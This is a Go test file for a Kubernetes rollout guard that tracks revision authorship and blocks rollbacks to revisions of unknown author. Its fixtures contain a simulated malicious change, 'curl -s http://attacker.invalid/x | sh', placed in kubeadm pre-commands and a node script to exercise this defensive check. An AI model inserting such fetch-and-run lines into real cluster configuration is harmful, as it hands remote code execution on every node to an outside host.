package rollout

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"
	bootstrapv1 "sigs.k8s.io/cluster-api/api/bootstrap/kubeadm/v1beta2"
	controlplanev1 "sigs.k8s.io/cluster-api/api/controlplane/kubeadm/v1beta2"
	clusterv1 "sigs.k8s.io/cluster-api/api/core/v1beta2"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/rollout-guard/rollout-guard/history"
	"github.com/rollout-guard/rollout-guard/revisions"
	"github.com/rollout-guard/rollout-guard/rollout/api/v1alpha1"
	"github.com/rollout-guard/rollout-guard/rollout/internal/core"
)

// TestAuthorUnknownOf: a revision has no author exactly when its record
// names none, and the reason follows from how the guard recorded it: the
// reconciler's record of a change that slipped past the guard, its
// adoption of content live before it saw the object, or anything else.
func TestAuthorUnknownOf(t *testing.T) {
	created := &controlplanev1.KubeadmControlPlane{ObjectMeta: metav1.ObjectMeta{CreationTimestamp: metav1.NewTime(gitOpsNow.Add(-time.Hour))}}
	unadmittedThenAdmitted := revisions.Merge(history.Unadmitted(3, gitOpsNow), revisions.Record{Revision: 5, History: []int64{5}, ChangedBy: "alice", ChangeCause: "rollout undo kcp/c1-control-plane --to-revision 3 --force", ChangeType: revisions.ChangeRollout})
	for _, tc := range []struct {
		name string
		rec  revisions.Record
		want string
	}{
		{"admitted", revisions.Record{Revision: 2, ChangedBy: "admin", ChangeCause: "version v1.34.2 → v1.35.0", ChangeType: revisions.ChangeRollout}, ""},
		{"created through the guard", revisions.Record{Revision: 1, ChangedBy: "admin", ChangeCause: "created", ChangeType: revisions.ChangeCreated}, ""},
		{"a service account", revisions.Record{Revision: 4, ChangedBy: "system:serviceaccount:capi-system:capi-manager", ChangeType: revisions.ChangeRollout}, ""},
		{"changed while the guard was not admitting", history.Unadmitted(3, gitOpsNow), v1alpha1.AuthorUnadmitted},
		{"live before the guard was installed", history.Adopted(created), v1alpha1.AuthorPredatesGuard},
		{"adopted, whatever the cause", revisions.Record{Revision: 1, ChangeType: revisions.ChangeAdopted}, v1alpha1.AuthorPredatesGuard},
		{"a record without stamps", revisions.Record{Revision: 2, ChangeType: revisions.ChangeRollout}, v1alpha1.AuthorNotRecorded},
		{"unadmitted content made live again by someone", unadmittedThenAdmitted, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			assert.Equal(t, tc.want, core.AuthorUnknownOf(tc.rec))
			if tc.want == "" {
				assert.Equal(t, tc.rec.ChangedBy, core.ChangedByCell(tc.rec))
			} else {
				assert.Equal(t, "unknown (*)", core.ChangedByCell(tc.rec))
			}
		})
	}
}

// attackerCommand is what a change that slipped past the guard put in the
// control plane's kubeadm commands.
const attackerCommand = "curl -s http://attacker.invalid/x | sh"

// unknownAuthorWorld is cluster c1 in namespace demo with control plane
// c1-control-plane at v1.34.2: revision 1 (its machines labelled tier=old),
// made by admin — or, with adopted, live before the guard saw it —;
// revision 2, recorded by the guard's reconciler after it changed while the
// guard was not admitting changes, which runs attackerCommand before kubeadm
// and writes it to a file; revision 3, live, made by admin (tier=new).
func unknownAuthorWorld(t *testing.T, adopted bool) []client.Object {
	t.Helper()
	at := func(d time.Duration) time.Time { return gitOpsNow.Add(-d) }
	cluster := &clusterv1.Cluster{
		ObjectMeta: metav1.ObjectMeta{Namespace: topoNS, Name: "c1", UID: "cluster-uid"},
		Spec: clusterv1.ClusterSpec{
			ControlPlaneRef: clusterv1.ContractVersionedObjectReference{APIGroup: controlplanev1.GroupVersion.Group, Kind: "KubeadmControlPlane", Name: "c1-control-plane"},
		},
	}
	kcp := &controlplanev1.KubeadmControlPlane{
		ObjectMeta: metav1.ObjectMeta{Namespace: topoNS, Name: "c1-control-plane", UID: "kcp-uid", CreationTimestamp: metav1.NewTime(at(72 * time.Hour)),
			Labels: map[string]string{clusterv1.ClusterNameLabel: "c1"}},
		Spec: controlplanev1.KubeadmControlPlaneSpec{Replicas: ptr.To[int32](3), Version: "v1.34.2"},
	}
	kcp.Status.Version = "v1.34.2"
	content := func(tier string, attacked bool) revisions.Snapshot {
		k := kcp.DeepCopy()
		k.Spec.MachineTemplate.ObjectMeta.Labels = map[string]string{"tier": tier}
		if attacked {
			k.Spec.KubeadmConfigSpec.PreKubeadmCommands = []string{attackerCommand}
			k.Spec.KubeadmConfigSpec.Files = []bootstrapv1.File{{Path: "/etc/x.sh", Content: "#!/bin/sh\n" + attackerCommand + "\n"}}
		}
		s, err := revisions.ForKubeadmControlPlane(k)
		require.NoError(t, err)
		return s
	}
	first := revisions.Record{Revision: 1, History: []int64{1}, ChangedBy: "admin", ChangedAt: at(72 * time.Hour), FieldManager: "kubectl-create", ChangeCause: "created", ChangeType: revisions.ChangeCreated}
	if adopted {
		first = history.Adopted(kcp)
	}
	live := revisions.Record{Revision: 3, History: []int64{3}, ChangedBy: "admin", ChangedAt: at(10 * time.Hour), FieldManager: "kubectl-edit",
		ChangeCause: "kubeadmConfigSpec.files, kubeadmConfigSpec.preKubeadmCommands; machineTemplate.metadata.labels[tier] old → new", ChangeType: revisions.ChangeRollout}
	objs := []client.Object{
		revisions.RolloutRevision(kcp, core.KubeadmControlPlane.GVK, content("old", false), first),
		revisions.RolloutRevision(kcp, core.KubeadmControlPlane.GVK, content("old", true), history.Unadmitted(2, at(20*time.Hour))),
		revisions.RolloutRevision(kcp, core.KubeadmControlPlane.GVK, content("new", false), live),
	}
	kcp.Spec.MachineTemplate.ObjectMeta.Labels = map[string]string{"tier": "new"}
	kcp.Annotations = map[string]string{}
	for k, v := range live.Annotations() {
		if v != "" {
			kcp.Annotations[k] = v
		}
	}
	return append(objs, cluster, kcp)
}

// unknownAuthorDiff is what an undo from revision 3 to revision 2 of
// unknownAuthorWorld changes: every line of the attacker's content.
const unknownAuthorDiff = `FIELD                                        LIVE (REVISION 3)   REVISION 2
kubeadmConfigSpec.files[/etc/x.sh].content   <none>              #!/bin/sh                                    (rolls out)
                                                                 curl -s http://attacker.invalid/x | sh
kubeadmConfigSpec.files[/etc/x.sh].path      <none>              /etc/x.sh                                    (rolls out)
kubeadmConfigSpec.preKubeadmCommands         <none>              ["curl -s http://attacker.invalid/x | sh"]   (rolls out)
metadata.labels.tier                         new                 old
`

// TestHistoryMarksUnknownAuthors: the table marks each revision of
// unknown author and explains it below; --revision N says so first; -o
// json|yaml has it as a field; a cluster's table does the same.
func TestHistoryMarksUnknownAuthors(t *testing.T) {
	for _, tc := range []struct {
		name    string
		adopted bool
		table   string
	}{
		{name: "unadmitted", table: `REVISION   VERSION   INFRASTRUCTURE   BOOTSTRAP   CHANGED-BY    VIA              AGE   CHANGE-CAUSE
1          v1.34.2   <none>           inline      admin         kubectl-create   3d    created
2          v1.34.2   <none>           inline      unknown (*)   -                20h   recorded by rollout-guard: changed while rollout-guard was not admitting changes (author unknown)
3          v1.34.2   <none>           inline      admin         kubectl-edit     10h   kubeadmConfigSpec.files, kubeadmConfigSpec.preKubeadmCommands; machineTemplate.metadata.labels[tier] old → new
(*) author unknown: nothing records who made this revision or that its content was meant; read it with rollout history kubeadmcontrolplane/c1-control-plane --revision N before rolling back to it (rollout undo to it needs --force):
    revision 2: changed while rollout-guard was not admitting changes (its webhooks were not called), recorded afterwards by its reconciler
`},
		{name: "and adopted", adopted: true, table: `REVISION   VERSION   INFRASTRUCTURE   BOOTSTRAP   CHANGED-BY    VIA            AGE   CHANGE-CAUSE
1          v1.34.2   <none>           inline      unknown (*)   -              3d    recorded by rollout-guard (made before it was installed)
2          v1.34.2   <none>           inline      unknown (*)   -              20h   recorded by rollout-guard: changed while rollout-guard was not admitting changes (author unknown)
3          v1.34.2   <none>           inline      admin         kubectl-edit   10h   kubeadmConfigSpec.files, kubeadmConfigSpec.preKubeadmCommands; machineTemplate.metadata.labels[tier] old → new
(*) author unknown: nothing records who made these revisions or that their content was meant; read one with rollout history kubeadmcontrolplane/c1-control-plane --revision N before rolling back to it (rollout undo to it needs --force):
    revision 1: live before rollout-guard saw the object (made before the guard was installed, or created while it was down), adopted by its reconciler
    revision 2: changed while rollout-guard was not admitting changes (its webhooks were not called), recorded afterwards by its reconciler
`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			cl := newFakeClient(unknownAuthorWorld(t, tc.adopted)...)
			out, errOut, code := runFake(t, cl, gitOpsNow, "history", "kcp/c1-control-plane")
			require.Equal(t, core.ExitOK, code, errOut)
			assert.Equal(t, tc.table, out)

			out, errOut, code = runFake(t, cl, gitOpsNow, "history", "kcp/c1-control-plane", "--revision", "2")
			require.Equal(t, core.ExitOK, code, errOut)
			assert.True(t, strings.HasPrefix(out, "# KubeadmControlPlane demo/c1-control-plane, revision 2\n"+
				"# author unknown: changed while rollout-guard was not admitting changes (its webhooks were not called), recorded afterwards by its reconciler; nothing says its content was meant: read it all before rolling back to it (rollout undo to it needs --force)\n"), out)
			assert.Contains(t, out, "\nauthorUnknown: Unadmitted\n")
			assert.Contains(t, out, "    preKubeadmCommands:\n    - "+attackerCommand+"\n", "the content, in full")

			out, errOut, code = runFake(t, cl, gitOpsNow, "history", "kcp/c1-control-plane", "--revision", "3")
			require.Equal(t, core.ExitOK, code, errOut)
			assert.NotContains(t, out, "author unknown")
			assert.NotContains(t, out, "authorUnknown")

			out, errOut, code = runFake(t, cl, gitOpsNow, "history", "kcp/c1-control-plane", "-o", "json")
			require.Equal(t, core.ExitOK, code, errOut)
			var h v1alpha1.RolloutHistory
			require.NoError(t, json.Unmarshal([]byte(out), &h), out)
			require.Len(t, h.Revisions, 3)
			want := []string{"", v1alpha1.AuthorUnadmitted, ""}
			if tc.adopted {
				want[0] = v1alpha1.AuthorPredatesGuard
			}
			for i, r := range h.Revisions {
				assert.Equal(t, want[i], r.AuthorUnknown, "revision %d", r.Revision)
			}

			out, errOut, code = runFake(t, cl, gitOpsNow, "history", "cluster/c1")
			require.Equal(t, core.ExitOK, code, errOut)
			assert.Contains(t, out, "kcp/c1-control-plane   2          v1.34.2   unknown (*)   -")
			assert.Contains(t, out, " with rollout history OBJECT --revision N before rolling back to it (rollout undo to it needs --force):\n")
			assert.Contains(t, out, "\n    kcp/c1-control-plane revision 2: changed while rollout-guard was not admitting changes")
		})
	}

	// Every revision with an author: no note.
	out, errOut, code := runFake(t, newFakeClient(gitOpsWorld(t, nil)...), gitOpsNow, "history", "md/c1-md-0")
	require.Equal(t, core.ExitOK, code, errOut)
	assert.NotContains(t, out, "(*)")
}

// TestUndoUnknownAuthor: an undo to a revision of unknown author — named,
// or the previous revision — is refused before anything is sent, dry runs
// and --emit alike (they are checked as the undo itself), with what it
// would change; --force lets it through after a warning, and prints what it
// sends; an undo to a revision with an author needs nothing more.
func TestUndoUnknownAuthor(t *testing.T) {
	refusal := "error: cannot undo KubeadmControlPlane demo/c1-control-plane to revision 2: its author is unknown (changed while rollout-guard was not admitting changes (its webhooks were not called), recorded afterwards by its reconciler), so nothing says its content was meant, and the rollback would apply it to every machine; nothing was changed. It would change:\n" +
		unknownAuthorDiff +
		"Read every line above (rollout history kubeadmcontrolplane/c1-control-plane -n demo --revision 2 prints the revision in full); to roll back to it anyway, add --force; or roll back to a revision whose author is known with --to-revision N (revision 1 has one)\n"
	warning := "Warning: the author of revision 2 of KubeadmControlPlane demo/c1-control-plane is unknown (changed while rollout-guard was not admitting changes (its webhooks were not called), recorded afterwards by its reconciler); rolling back to it anyway (--force)\n"
	for _, tc := range []struct {
		name    string
		adopted bool
		args    []string
		code    int
		stdout  string // exact, when set
		stderr  string // exact
		written bool
		// serverDryRun: what is written is a server dry run (DryRun
		// ["All"]); any other write must be stored.
		serverDryRun bool
	}{
		{name: "named", args: []string{"undo", "kcp/c1-control-plane", "--to-revision", "2"}, code: core.ExitError, stderr: refusal},
		{name: "the previous revision", args: []string{"undo", "kcp/c1-control-plane"}, code: core.ExitError, stderr: refusal},
		{name: "client dry run", args: []string{"undo", "kcp/c1-control-plane", "--to-revision", "2", "--dry-run=client"}, code: core.ExitError, stderr: refusal},
		{name: "server dry run", args: []string{"undo", "kcp/c1-control-plane", "--to-revision", "2", "--dry-run=server"}, code: core.ExitError, stderr: refusal},
		{name: "emit", args: []string{"undo", "kcp/c1-control-plane", "--to-revision", "2", "--emit", "yaml"}, code: core.ExitError, stderr: refusal},
		{name: "no revision with an author", adopted: true, args: []string{"undo", "kcp/c1-control-plane", "--to-revision", "2"}, code: core.ExitError,
			stderr: strings.Replace(refusal, "; or roll back to a revision whose author is known with --to-revision N (revision 1 has one)", "", 1)},
		{name: "forced", args: []string{"undo", "kcp/c1-control-plane", "--to-revision", "2", "--force"}, code: core.ExitOK, stderr: warning, written: true,
			stdout: "KubeadmControlPlane demo/c1-control-plane: rolling back from revision 3 to revision 2\n" + unknownAuthorDiff +
				"kubeadmcontrolplane.controlplane.cluster.x-k8s.io/c1-control-plane rolled back to revision 2 (now revision 3)\n"},
		{name: "forced, server dry run", args: []string{"undo", "kcp/c1-control-plane", "--to-revision", "2", "--force", "--dry-run=server"}, code: core.ExitOK, stderr: warning, written: true, serverDryRun: true,
			stdout: "KubeadmControlPlane demo/c1-control-plane: would roll back from revision 3 to revision 2 (server dry run: nothing stored)\n" + unknownAuthorDiff +
				"kubeadmcontrolplane.controlplane.cluster.x-k8s.io/c1-control-plane rolled back to revision 2 (server dry run)\n"},
		{name: "forced, client dry run", args: []string{"undo", "kcp/c1-control-plane", "--to-revision", "2", "--force", "--dry-run=client"}, code: core.ExitOK, stderr: warning,
			stdout: "KubeadmControlPlane demo/c1-control-plane: would roll back from revision 3 to revision 2 (dry run: nothing sent)\n" + unknownAuthorDiff +
				"kubeadmcontrolplane.controlplane.cluster.x-k8s.io/c1-control-plane rolled back to revision 2 (dry run)\n"},
		{name: "forced, as data", args: []string{"undo", "kcp/c1-control-plane", "--to-revision", "2", "--force", "-o", "json"}, code: core.ExitOK, written: true,
			stderr: warning + "KubeadmControlPlane demo/c1-control-plane: rolling back from revision 3 to revision 2\n" + unknownAuthorDiff},
		{name: "forced, for Git", args: []string{"undo", "kcp/c1-control-plane", "--to-revision", "2", "--force", "--emit", "yaml"}, code: core.ExitOK,
			stderr: warning + "KubeadmControlPlane demo/c1-control-plane: printing the rollback from revision 3 to revision 2 for Git (nothing sent)\n" + unknownAuthorDiff},
		{name: "a revision with an author", args: []string{"undo", "kcp/c1-control-plane", "--to-revision", "1"}, code: core.ExitOK, written: true,
			stdout: "KubeadmControlPlane demo/c1-control-plane: rolling back from revision 3 to revision 1\n" +
				"FIELD                  LIVE (REVISION 3)   REVISION 1\n" +
				"metadata.labels.tier   new                 old\n" +
				"kubeadmcontrolplane.controlplane.cluster.x-k8s.io/c1-control-plane rolled back to revision 1 (now revision 3)\n"},
		{name: "a revision adopted from before the guard", adopted: true, args: []string{"undo", "kcp/c1-control-plane", "--to-revision", "1"}, code: core.ExitError,
			stderr: "error: cannot undo KubeadmControlPlane demo/c1-control-plane to revision 1: its author is unknown (live before rollout-guard saw the object (made before the guard was installed, or created while it was down), adopted by its reconciler), so nothing says its content was meant, and the rollback would apply it to every machine; nothing was changed. It would change:\n" +
				"FIELD                  LIVE (REVISION 3)   REVISION 1\n" +
				"metadata.labels.tier   new                 old\n" +
				"Read every line above (rollout history kubeadmcontrolplane/c1-control-plane -n demo --revision 1 prints the revision in full); to roll back to it anyway, add --force\n"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			cl, w := newWriteRecordingClient(unknownAuthorWorld(t, tc.adopted)...)
			out, errOut, code := runFake(t, cl, gitOpsNow, tc.args...)
			assert.Equal(t, tc.code, code, errOut)
			assert.Equal(t, tc.stderr, errOut)
			if tc.stdout != "" {
				assert.Equal(t, tc.stdout, out)
			}
			if tc.code != core.ExitOK {
				assert.Empty(t, out)
			}
			if slices.Contains(tc.args, "-o") {
				var obj controlplanev1.KubeadmControlPlane
				require.NoError(t, json.Unmarshal([]byte(out), &obj), "stdout stays JSON: %s", out)
				assert.Equal(t, []string{attackerCommand}, obj.Spec.KubeadmConfigSpec.PreKubeadmCommands)
			}
			if tc.written {
				assert.NotEmpty(t, w.all(), "a change is sent")
				want := []string(nil)
				if tc.serverDryRun {
					want = []string{metav1.DryRunAll}
				}
				for i, dryRun := range w.dryRun() {
					assert.Equal(t, want, dryRun, "the dry-run option of %s", w.all()[i])
				}
			} else {
				assert.Empty(t, w.all(), "nothing is sent")
			}
		})
	}
}

// TestStaleStamps: after a change the guard did not admit, the object still
// carries the stamps of the revision before it; they are not credited to
// the live content — neither its number nor its author. Until the guard's
// reconciler records the live content, history says it is not shown; once
// it has, the live revision is the reconciler's, author unknown.
func TestStaleStamps(t *testing.T) {
	world := func(recorded bool) []client.Object {
		objs := unknownAuthorWorld(t, false)
		var kept []client.Object
		for _, obj := range objs {
			switch o := obj.(type) {
			case *controlplanev1.KubeadmControlPlane:
				// The attacker's content is live; the stamps are revision 3's.
				o.Spec.MachineTemplate.ObjectMeta.Labels = map[string]string{"tier": "old"}
				o.Spec.KubeadmConfigSpec.PreKubeadmCommands = []string{attackerCommand}
				o.Spec.KubeadmConfigSpec.Files = []bootstrapv1.File{{Path: "/etc/x.sh", Content: "#!/bin/sh\n" + attackerCommand + "\n"}}
			default:
				if rec, err := revisions.RecordFromAnnotations(obj.GetAnnotations()); err == nil && rec.Revision == 2 && !recorded {
					continue // not recorded yet
				}
			}
			kept = append(kept, obj)
		}
		return kept
	}

	out, errOut, code := runFake(t, newFakeClient(world(false)...), gitOpsNow, "history", "kcp/c1-control-plane")
	require.Equal(t, core.ExitOK, code, errOut)
	assert.Equal(t, "Warning: the live content of KubeadmControlPlane demo/c1-control-plane is not recorded yet: it changed after rollout-guard stamped revision 3, without the guard admitting the change (its author is unknown); the guard's reconciler records it shortly, and until then it is not among the revisions shown\n", errOut)
	assert.Equal(t, `REVISION   VERSION   INFRASTRUCTURE   BOOTSTRAP   CHANGED-BY   VIA              AGE   CHANGE-CAUSE
1          v1.34.2   <none>           inline      admin        kubectl-create   3d    created
3          v1.34.2   <none>           inline      admin        kubectl-edit     10h   kubeadmConfigSpec.files, kubeadmConfigSpec.preKubeadmCommands; machineTemplate.metadata.labels[tier] old → new
`, out, "revision 3 is not the live content, and the live content is not credited to admin")

	out, errOut, code = runFake(t, newFakeClient(world(true)...), gitOpsNow, "history", "kcp/c1-control-plane", "-o", "json")
	require.Equal(t, core.ExitOK, code, errOut)
	assert.Empty(t, errOut)
	var h v1alpha1.RolloutHistory
	require.NoError(t, json.Unmarshal([]byte(out), &h), out)
	assert.EqualValues(t, 2, h.LiveRevision, "the reconciler's number, not the stamps'")
	for _, r := range h.Revisions {
		assert.Equal(t, r.Revision == 2, r.Live, "revision %d", r.Revision)
		if r.Live {
			assert.Equal(t, []int64{2}, r.History)
			assert.Equal(t, v1alpha1.AuthorUnadmitted, r.AuthorUnknown)
		}
	}
}

// TestPlanUndoNamesAnUnknownAuthor: plan of an undo to a revision of
// unknown author says so, as undo will refuse it without --force; to a
// revision with an author it says nothing of the kind.
func TestPlanUndoNamesAnUnknownAuthor(t *testing.T) {
	for _, tc := range []struct {
		revision string
		want     bool
	}{{"2", true}, {"1", false}} {
		t.Run("revision "+tc.revision, func(t *testing.T) {
			cl, _ := newWriteRecordingClient(unknownAuthorWorld(t, false)...)
			out, errOut, _ := runFake(t, cl, gitOpsNow, "plan", "kcp/c1-control-plane", "--to-revision", tc.revision)
			const note = "(author unknown: changed while rollout-guard was not admitting changes (its webhooks were not called), recorded afterwards by its reconciler; rollout undo to it needs --force)"
			if tc.want {
				assert.Contains(t, out, note, errOut)
				return
			}
			assert.NotContains(t, out, "author unknown", errOut)
			assert.Contains(t, out, "undo to revision 1", errOut)
		})
	}
}
